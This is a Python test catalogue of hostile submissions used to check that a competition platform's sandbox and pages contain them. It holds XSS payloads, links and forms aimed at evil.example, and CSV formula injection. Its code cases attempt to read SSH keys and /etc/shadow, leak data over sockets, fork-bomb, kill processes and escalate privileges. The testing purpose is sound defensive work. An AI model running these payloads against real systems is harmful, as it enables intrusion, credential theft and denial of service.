"""The catalogue: hostile submissions as real folders, and what each must end as.

Every case is a participant folder under ``submissions/<challenge>/<login>/``
of one workspace (see ``conftest.py``), evaluated by the real ``site-builder
evaluate`` in one go, as the pipeline would, so one hostile submission also
proves it cannot stop the others from being scored.

Code cases run ``hostile(X, y)`` at fit time. What the code observes from
inside the sandbox comes back the way a participant would exfiltrate it: in
the message of an exception, which is recorded and published. ``REPORT``
marks that message; tests read it from the record.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

CODE_CHALLENGE = "vault"
PREDICTIONS_CHALLENGE = "gallery"
TIME_LIMIT = 10
MEMORY_LIMIT_MB = 1024
PREDICTIONS_LIMIT_MB = 1
# The sandbox's file-size limit: max(2 x predictions_mb, 64 MiB), see run.py.
FILE_SIZE_LIMIT = 64 * 2**20
# A run ends within its time limit plus this (startup, teardown, a loaded CI box).
SLACK_SECONDS = 8

XSS_PAYLOADS = (
    "<script>window.__pwned=(window.__pwned||0)+1;alert('script')</script>",
    "<img src=x onerror=\"window.__pwned=(window.__pwned||0)+1;alert('img')\">",
    "<svg/onload=alert('svg')>",
    "\"><iframe srcdoc=\"<script>parent.alert('iframe')</script>\"></iframe>",
    "javascript:alert('href')",
    "{{7*7}}{% raw %}${7*7}",
)
README_XSS = """\
# Approach <script>alert('readme-h1')</script>

<script>window.__pwned=(window.__pwned||0)+1;alert('readme')</script>
<img src=x onerror="window.__pwned=(window.__pwned||0)+1;alert('readme-img')">
<a href="javascript:alert('readme-link')">click me</a>
[markdown link](javascript:alert('md-link'))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<javascript:alert('autolink')>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=q><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style>
<div style="background:url(javascript:alert('css'))" onmouseover="alert('hover')">hover</div>
<details open ontoggle="alert('toggle')"><summary>s</summary></details>
![remote image](https://evil.example/track.png)
<!-- <script>alert('comment')</script> -->
"""
HOSTILE_FILE_NAMES = ("<img src=x onerror=alert('file')>.py", "\"><svg onload=alert('file2')>.txt")
FORMULA_NAMES = {
    "csv-inject": ("=HYPERLINK(\"http://evil.example\",\"win\")", "+SUM(1,1)*cmd|' /C calc'!A0"),
    "csv-inject-at": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
}
RTL_NAME = "مسابقة البيانات 👩🏽‍💻"
RTL_TEAM = "צוות 🚀 ‮txt.exe"  # with a right-to-left override inside
RTL_DESCRIPTION = "نموذج بسيط، 🙂 emoji ✓"
HUGE_README_BYTES = 5 * 2**20


@dataclass(frozen=True)
class Case:
    """One hostile submission and its intended outcome.

    ``outcome`` is the evaluate status (``scored``, ``failed``, ``invalid``);
    ``error_class`` the recorded error class of a failed run.
    """

    login: str
    challenge: str
    outcome: str
    error_class: str | None = None
    body: str = ""  # code cases: the body of hostile(X, y)
    files: Callable[[dict[str, Any]], dict[str, bytes]] | None = None  # extra files, given the constants
    meta: dict[str, str] = field(default_factory=dict)  # submission.yaml
    readme: str | None = None
    slow: bool = False
    what: str = ""


ESTIMATOR = '''\
import json, os, sys
import numpy as np

C = json.loads({constants!r})


def report(**findings):
    raise RuntimeError("REPORT " + json.dumps(findings, sort_keys=True))


def attempt(path):
    """What reading (or listing) a path gives: BLOCKED, or the beginning of the content."""
    try:
        if os.path.isdir(path):
            return "LISTED " + ",".join(sorted(os.listdir(path))[:12])
        with open(path, "rb") as handle:
            return "READ " + handle.read(120).decode("utf-8", "replace")
    except OSError as error:
        return "BLOCKED " + type(error).__name__


def hostile(X, y):
{body}


class Hostile:
    def fit(self, X, y):
        hostile(X, y)
        self.mean_ = float(np.mean(y))
        return self

    def predict(self, X):
        return np.full(len(X), self.mean_)


def get_estimator():
    return Hostile()
'''


def estimator_source(body: str, constants: dict[str, Any]) -> str:
    indented = textwrap.indent(textwrap.dedent(body).strip("\n") or "pass", "    ")
    return ESTIMATOR.format(constants=json.dumps(constants, sort_keys=True), body=indented)


def code(login: str, outcome: str, error_class: str | None, body: str, what: str, **extra: Any) -> Case:
    return Case(login, CODE_CHALLENGE, outcome, error_class, body=body, what=what, **extra)


CODE_CASES = [
    code("env-dump", "failed", "exception", """
        environ = dict(os.environ)
        own = attempt("/proc/self/environ")
        first = attempt("/proc/1/environ")
        print("ENV", environ)
        report(keys=sorted(environ), values=sorted(environ.values()), own=own, first=first)
    """, "dump the environment (own, /proc/self/environ, /proc/1/environ)"),
    code("read-ssh", "failed", "exception", """
        report(paths={path: attempt(path) for path in (
            C["home"] + "/.ssh/id_ed25519", C["home"] + "/.ssh", C["home"], "/root/.ssh", "/root", "/home",
            os.path.expanduser("~/.ssh"))})
    """, "read ~/.ssh: the real home, a fake home with a key, the sandbox's own ~"),
    code("read-keyfile", "failed", "exception", """
        report(paths={path: attempt(path) for path in (C["key_next_to_repo"], C["key_in_repo"], C["repo"], C["workspace"])})
    """, "read the age key file next to the repository and inside it"),
    code("read-dotdot", "failed", "exception", """
        here = os.path.dirname(os.path.abspath(__file__))
        paths = ["../" * depth + "private.key" for depth in range(1, 7)]
        paths += [os.path.join(here, "../" * depth + "challenges") for depth in range(1, 7)]
        paths += ["../../../challenges/vault/private/solution.csv.age", "../../results", "../" * 10 + "etc/shadow"]
        report(cwd=os.getcwd(), paths={path: attempt(path) for path in paths})
    """, "climb out with ../../ paths, from the working directory and from the code's folder"),
    code("read-solution", "failed", "exception", """
        report(paths={path: attempt(path) for path in (C["solution"], C["solution_dir"], C["results"], C["repo"] + "/.git")})
    """, "read the encrypted solution, the results store and .git by absolute path"),
    code("write-host", "failed", "exception", """
        outcomes = {}
        for path in (C["repo"] + "/challenges/vault/challenge.yaml", C["key_next_to_repo"], C["results"] + "/planted.json",
                     C["home"] + "/.ssh/authorized_keys", C["repo"] + "/planted.txt", "/etc/planted", "/usr/planted",
                     "/planted", "/tmp/../planted"):
            try:
                with open(path, "a") as handle:
                    handle.write("planted by a submission")
                outcomes[path] = "WROTE"
            except OSError as error:
                outcomes[path] = "BLOCKED " + type(error).__name__
        report(paths=outcomes)
    """, "write into the repository, the results, the key file, ~/.ssh and the system"),
    code("network", "failed", "exception", """
        import socket
        outcomes = {}
        def dial(name, family, kind, address):
            try:
                with socket.socket(family, kind) as sock:
                    sock.settimeout(2)
                    if kind == socket.SOCK_DGRAM:
                        sock.sendto(b"leak " + C["marker"].encode(), address)
                        outcomes[name] = "SENT"
                    else:
                        sock.connect(address)
                        sock.sendall(b"leak " + C["marker"].encode())
                        outcomes[name] = "CONNECTED"
            except OSError as error:
                outcomes[name] = "BLOCKED " + type(error).__name__
        dial("tcp-127.0.0.1", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", C["tcp_port"]))
        dial("udp-127.0.0.1", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", C["udp_port"]))
        dial("unix-abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + C["abstract_socket"])
        dial("unix-path", socket.AF_UNIX, socket.SOCK_STREAM, C["unix_socket"])
        dial("tcp-internet", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))
        try:
            socket.getaddrinfo("example.com", 443)
            outcomes["dns"] = "RESOLVED"
        except OSError as error:
            outcomes["dns"] = "BLOCKED " + type(error).__name__
        report(outcomes=outcomes, interfaces=[name for _, name in socket.if_nameindex()])
    """, "connect to listeners on 127.0.0.1 (TCP, UDP, unix sockets), the internet, DNS"),
    code("daemon", "scored", None, """
        import signal, subprocess
        marker = C["marker"]
        subprocess.Popen([marker, "300"], executable="/bin/sleep", start_new_session=True)
        if os.fork() == 0:  # the classic double fork
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execv("/bin/sleep", [marker, "300"])
            os._exit(0)
        ignore_hangup = lambda: signal.signal(signal.SIGHUP, signal.SIG_IGN)
        subprocess.Popen([marker, "300"], executable="/bin/sleep", preexec_fn=ignore_hangup, close_fds=True)
    """, "leave daemons running (setsid, double fork, nohup) and finish normally"),
    code("fork-storm", "failed", "exception", """
        import time
        started, forked, error = time.monotonic(), 0, ""
        while forked < 3000:
            try:
                pid = os.fork()
            except OSError as problem:
                error = type(problem).__name__
                break
            if pid == 0:
                os.execv("/bin/sleep", [C["marker"], "300"])
            forked += 1
        report(forked=forked, error=error, seconds=round(time.monotonic() - started, 2))
    """, "a bounded fork storm: 3000 processes that sleep", slow=True),
    code("endless-loop", "failed", "timeout", """
        import signal
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
            signal.signal(number, signal.SIG_IGN)
        while True:
            pass
    """, "an endless loop that ignores every signal it can", slow=True),
    code("alloc-10g", "failed", "memory", """
        blob = bytearray(10 * 2**30)
        report(allocated=len(blob))
    """, "allocate 10 GB"),
    code("file-10g", "failed", "exception", """
        chunk = b"\\0" * (16 * 2**20)
        written = {}
        for path in ("big.bin", "/tmp/big.bin", "/dev/shm/big.bin"):
            total = 0
            try:
                with open(path, "wb") as handle:
                    while total < 10 * 2**30:
                        handle.write(chunk)
                        total += len(chunk)
                written[path] = [total, "WROTE"]
            except OSError as error:
                written[path] = [total, "STOPPED " + type(error).__name__ + " " + str(error.errno)]
        many, total = 0, 0
        try:
            while total < 10 * 2**30:
                with open(f"part-{many}.bin", "wb") as handle:
                    for _ in range(3):
                        handle.write(chunk)
                many += 1
                total += 3 * len(chunk)
        except OSError as error:
            written["many-files"] = [total, "STOPPED " + type(error).__name__ + " " + str(error.errno)]
        report(written=written)
    """, "write a 10 GB file (in the work dir, /tmp, /dev/shm), then 10 GB in many files", slow=True),
    code("output-flood", "scored", None, """
        line = "flood " * 170000 + "\\n"
        for _ in range(500):
            sys.stdout.write(line)
            sys.stderr.write(line)
    """, "flood stdout and stderr with 1 GB", slow=True),
    code("forge-report", "failed", "invalid-output", """
        config = json.load(open("harness-config.json"))
        output = os.path.dirname(config["report"])
        with open(config["report"], "w") as handle:
            json.dump({"status": "ok", "error": None, "fit_seconds": 0.0, "predict_seconds": 0.0,
                       "predict_seconds_by_input": {}}, handle)
        os.symlink("/etc/passwd", os.path.join(output, "test.csv"))
        os._exit(0)
    """, "forge harness.json and plant a symlink as the predictions, then exit 0"),
    code("kill-supervisor", "failed", "exception", """
        import signal
        outcomes = {}
        for pid in sorted({1, os.getppid()} | {int(name) for name in os.listdir("/proc") if name.isdigit()}):
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                outcomes[pid] = "KILLED"
            except OSError as error:
                outcomes[pid] = "BLOCKED " + type(error).__name__
        report(outcomes=outcomes, pid=os.getpid())
    """, "kill the sandbox's supervisor and every process it can see"),
    code("escalate", "failed", "exception", """
        import ctypes, resource
        libc = ctypes.CDLL(None, use_errno=True)
        outcomes = {}
        def step(name, action):
            try:
                result = action()
                outcomes[name] = "DONE" if result in (None, 0) else f"FAILED {result} errno {ctypes.get_errno()}"
            except (OSError, ValueError) as error:
                outcomes[name] = "BLOCKED " + type(error).__name__
        step("raise-rlimit-as", lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2))
        step("raise-rlimit-nproc", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2))
        step("setuid-0", lambda: os.setuid(0))
        step("remount-root-rw", lambda: libc.mount(None, b"/", None, 0x20 | 0x1000, None))
        step("mount-tmpfs", lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
        step("umount-tmp", lambda: libc.umount2(b"/tmp", 2))
        step("chroot", lambda: os.chroot("/tmp"))
        step("pid-max", lambda: open("/proc/sys/kernel/pid_max", "w").write("4194304"))
        step("proc-1-root", lambda: os.listdir("/proc/1/root"))
        step("proc-1-fd", lambda: os.listdir("/proc/1/fd"))
        def open_disks():
            for name in os.listdir("/sys/block"):
                open("/dev/" + name, "rb").close()
        step("block-devices", open_disks)
        pid = os.fork()
        if pid == 0:  # a nested user namespace: capabilities there must not unlock the view
            code = 0
            if libc.unshare(0x10000000 | 0x00020000) == 0:
                code = 10
                if libc.mount(None, b"/", None, 0x20 | 0x1000, None) == 0:
                    code = 11
                if libc.umount2(b"/usr", 2) == 0:
                    code = 12
            os._exit(code)
        nested = os.waitpid(pid, 0)[1] >> 8
        outcomes["nested-namespace"] = {0: "BLOCKED unshare", 10: "BLOCKED mount", 11: "REMOUNTED", 12: "UNMOUNTED"}[nested]
        status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
        report(outcomes=outcomes, uid=os.getuid(), capabilities=status["CapEff"].strip(), bounding=status["CapBnd"].strip(),
               no_new_privs=status["NoNewPrivs"].strip(), root=sorted(os.listdir("/")), dev=sorted(os.listdir("/dev")))
    """, "raise limits, become root, remount, unmount, chroot, reach /proc/1, disks, a nested namespace"),
    code("xss-code", "scored", None, """
        # </script><script>window.__pwned=1;alert('code-comment')</script>
        payloads = ["<img src=x onerror=alert('code')>", "</code></pre><script>alert('pre')</script>", "{{7*7}}"]
        print(payloads)
    """, "XSS payloads in the code itself, shown on the submission page"),
    code("xss-traceback", "failed", "exception", """
        raise ValueError("<script>window.__pwned=1;alert('traceback')</script><img src=x onerror=alert('tb')>")
    """, "XSS in an exception message and its traceback"),
]


def _predictions(constants: dict[str, Any]) -> bytes:
    return constants["predictions_csv"].encode("utf-8")


def _xss_files(constants: dict[str, Any]) -> dict[str, bytes]:
    return {name: b"x = '<script>alert(1)</script>'\n" for name in HOSTILE_FILE_NAMES}


def predictions_case(login: str, outcome: str, what: str, **extra: Any) -> Case:
    return Case(login, PREDICTIONS_CHALLENGE, outcome, what=what, **extra)


PREDICTIONS_CASES = [
    predictions_case(
        "xss-meta",
        "scored",
        "XSS in name, team, description, README and file names",
        meta={"name": XSS_PAYLOADS[0], "team": XSS_PAYLOADS[1], "description": " ".join(XSS_PAYLOADS)},
        readme=README_XSS,
        files=_xss_files,
    ),
    *(
        predictions_case(login, "scored", "spreadsheet formulas as display name and team", meta={"name": name, "team": team})
        for login, (name, team) in FORMULA_NAMES.items()
    ),
    predictions_case(
        "rtl-emoji",
        "scored",
        "right-to-left and emoji name, team and description",
        meta={"name": RTL_NAME, "team": RTL_TEAM, "description": RTL_DESCRIPTION},
    ),
    predictions_case(
        "huge-readme", "scored", "a 5 MiB README", readme="A very long README.\n\n" + ("word " * 15 + "\n") * (HUGE_README_BYTES // 76)
    ),
]


def _symlink(constants: dict[str, Any]) -> dict[str, bytes]:
    return {"notes.txt": b"symlink:" + constants["key_next_to_repo"].encode()}


def _hardlink(constants: dict[str, Any]) -> dict[str, bytes]:
    return {"notes.txt": b"hardlink:" + constants["key_next_to_repo"].encode()}


def _non_utf8(constants: dict[str, Any]) -> dict[str, bytes]:
    return {"bytes:\xff\xfe-model.py": b"x = 1\n"}


def _sparse_10g(constants: dict[str, Any]) -> dict[str, bytes]:
    return {"weights.bin": b"sparse:" + str(10 * 2**30).encode()}


def _yaml_bomb(constants: dict[str, Any]) -> dict[str, bytes]:
    return {"submission.yaml": b"name: " + b"[" * 5000 + b"]" * 5000 + b"\n"}


INVALID_CASES = [
    predictions_case("symlink", "invalid", "a symlink to the key file", files=_symlink),
    predictions_case("hardlink", "invalid", "a hard link to the key file", files=_hardlink),
    predictions_case("non-utf8-name", "invalid", "a file name that is not UTF-8", files=_non_utf8),
    predictions_case("sparse-10g", "invalid", "a 10 GB (sparse) file in the folder", files=_sparse_10g),
    predictions_case("yaml-bomb", "invalid", "a submission.yaml nested 5000 deep", files=_yaml_bomb),
    predictions_case(
        "control-chars", "invalid", "a tab and a carriage return opening name and team", meta={"name": "\t=1+1", "team": "\r=1+1"}
    ),
]
# Folder names that are not logins: path tricks and look-alikes.
INVALID_FOLDERS = ("..hidden", "-rf", "ali ce", "ｆｕｌｌｗｉｄｔｈ")

ALL_CASES = [*CODE_CASES, *PREDICTIONS_CASES, *INVALID_CASES]
CASES = {case.login: case for case in ALL_CASES}
